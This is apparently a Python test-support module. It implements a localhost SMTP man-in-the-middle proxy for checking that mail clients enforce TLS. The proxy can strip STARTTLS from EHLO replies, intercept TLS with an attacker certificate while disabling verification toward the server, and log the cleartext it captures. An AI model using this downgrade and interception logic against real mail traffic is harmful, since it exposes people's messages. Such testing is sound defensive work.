"""An active attacker between an SMTP client and a real server, for TLS-enforcement tests.

An asyncio TCP proxy on 127.0.0.1 in front of (for example) the private
Postfix of :mod:`tests.postfix`. It relays SMTP one command and one reply
at a time, so it can tamper with the dialogue the way a network attacker on
port 25 does:

``PASSTHROUGH``
    An honest relay; after a ``220`` to STARTTLS it only pipes bytes, so it
    sees ciphertext. The control case.
``STRIP_STARTTLS``
    Removes ``STARTTLS`` from every EHLO reply and answers a STARTTLS the
    client sends anyway with ``502`` (the server never sees it): a client
    that falls back to plaintext hands the attacker the whole message.
``WRONG_CERTIFICATE``
    Answers STARTTLS itself with ``220`` and terminates TLS with its own
    certificate (another CA's, or one for another name), opens its own TLS
    session to the server and relays the decrypted dialogue: a client that
    accepts the certificate gets its mail delivered *and* read.

Everything the proxy saw in clear is kept in :attr:`MitmProxy.cleartext`, so
a test can show what the attacker learned. Failures inside a relayed session
(a client aborting the handshake, as it should) end that session and are
listed in :attr:`MitmProxy.session_errors`; they are expected outcomes here.
"""

from __future__ import annotations

import asyncio
import enum
import ssl
from types import TracebackType

READ_TIMEOUT = 30.0


class AttackMode(enum.Enum):
    PASSTHROUGH = "passthrough"
    STRIP_STARTTLS = "strip-starttls"
    WRONG_CERTIFICATE = "wrong-certificate"


def _reply_done(line: bytes) -> bool:
    return len(line) < 4 or line[3:4] != b"-"


def strip_starttls(lines: list[bytes]) -> list[bytes]:
    """An EHLO reply without its STARTTLS line, continuation marks fixed up."""
    kept = [line for line in lines if line[4:].strip().upper() != b"STARTTLS"]
    return [
        line[:3] + (b" " if index == len(kept) - 1 else b"-") + line[4:]
        for index, line in enumerate(kept)
    ]


class MitmProxy:
    """The proxy; use ``async with MitmProxy(...) as proxy`` and connect to ``proxy.port``."""

    def __init__(
        self,
        upstream_port: int,
        mode: AttackMode,
        *,
        certificate: ssl.SSLContext | None = None,
    ) -> None:
        if mode is AttackMode.WRONG_CERTIFICATE and certificate is None:
            raise ValueError("WRONG_CERTIFICATE needs the attacker's server context")
        self.upstream_port = upstream_port
        self.mode = mode
        self.certificate = certificate
        self.port = 0
        self.cleartext = bytearray()
        self.sessions = 0
        self.tls_intercepted = 0
        self.session_errors: list[BaseException] = []
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    async def __aenter__(self) -> MitmProxy:
        self._server = await asyncio.start_server(self._session, "127.0.0.1", 0)
        self.port = int(self._server.sockets[0].getsockname()[1])
        return self

    async def __aexit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        assert self._server is not None
        self._server.close()
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        await self._server.wait_closed()
        await asyncio.sleep(0)  # let aborted transports finish closing

    async def _session(
        self, client_r: asyncio.StreamReader, client_w: asyncio.StreamWriter
    ) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        self.sessions += 1
        writers = [client_w]
        try:
            up_r, up_w = await asyncio.open_connection("127.0.0.1", self.upstream_port)
            writers.append(up_w)
            await self._relay(client_r, client_w, up_r, up_w)
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, TimeoutError) as exc:
            self.session_errors.append(exc)
        finally:
            for writer in writers:  # also when the server could not be reached
                writer.transport.abort()  # no lingering TLS shutdown after the test
            self._tasks.discard(task)

    async def _read_line(self, reader: asyncio.StreamReader) -> bytes:
        line = await asyncio.wait_for(reader.readline(), READ_TIMEOUT)
        self.cleartext += line
        return line

    async def _read_reply(self, reader: asyncio.StreamReader) -> list[bytes]:
        lines = [await self._read_line(reader)]
        while lines[-1] and not _reply_done(lines[-1]):
            lines.append(await self._read_line(reader))
        if not lines[-1]:
            raise ConnectionResetError("the server closed the connection")
        return lines

    async def _relay_reply(
        self, up_r: asyncio.StreamReader, client_w: asyncio.StreamWriter, *, ehlo: bool = False
    ) -> bytes:
        lines = await self._read_reply(up_r)
        if ehlo and self.mode is AttackMode.STRIP_STARTTLS:
            lines = strip_starttls(lines)
        client_w.write(b"".join(lines))
        await client_w.drain()
        return lines[-1]

    async def _relay(
        self,
        client_r: asyncio.StreamReader,
        client_w: asyncio.StreamWriter,
        up_r: asyncio.StreamReader,
        up_w: asyncio.StreamWriter,
    ) -> None:
        await self._relay_reply(up_r, client_w)  # the greeting
        in_data = False
        while line := await self._read_line(client_r):
            if in_data:
                up_w.write(line)
                if line == b".\r\n":
                    in_data = False
                    await self._relay_reply(up_r, client_w)
                continue
            command = line.strip().upper()
            if command == b"STARTTLS" and self.mode is AttackMode.STRIP_STARTTLS:
                client_w.write(b"502 5.5.1 Error: command not implemented\r\n")
                continue
            if command == b"STARTTLS" and self.mode is AttackMode.WRONG_CERTIFICATE:
                await self._intercept_tls(client_w, up_r, up_w)
                continue
            up_w.write(line)
            last = await self._relay_reply(up_r, client_w, ehlo=command.startswith(b"EHLO"))
            if command == b"DATA" and last.startswith(b"354"):
                in_data = True
            elif command == b"STARTTLS" and last.startswith(b"220"):
                await self._pipe(client_r, client_w, up_r, up_w)
                return
            elif command == b"QUIT":
                return

    async def _intercept_tls(
        self,
        client_w: asyncio.StreamWriter,
        up_r: asyncio.StreamReader,
        up_w: asyncio.StreamWriter,
    ) -> None:
        """Terminate the client's TLS with the attacker's certificate; own TLS to the server."""
        assert self.certificate is not None
        up_w.write(b"STARTTLS\r\n")
        reply = await self._read_reply(up_r)
        if not reply[-1].startswith(b"220"):
            raise ConnectionResetError("the server refused the attacker's STARTTLS")
        to_server = ssl.create_default_context()
        to_server.check_hostname = False
        to_server.verify_mode = ssl.CERT_NONE
        await up_w.start_tls(to_server)
        client_w.write(b"220 2.0.0 Ready to start TLS\r\n")
        await client_w.start_tls(self.certificate)
        self.tls_intercepted += 1

    @staticmethod
    async def _pipe(
        client_r: asyncio.StreamReader,
        client_w: asyncio.StreamWriter,
        up_r: asyncio.StreamReader,
        up_w: asyncio.StreamWriter,
    ) -> None:
        """Copy bytes both ways (after an honest STARTTLS: ciphertext only)."""

        async def copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            while chunk := await reader.read(65536):
                writer.write(chunk)
                await writer.drain()
            writer.close()

        await asyncio.gather(copy(client_r, up_w), copy(up_r, client_w))
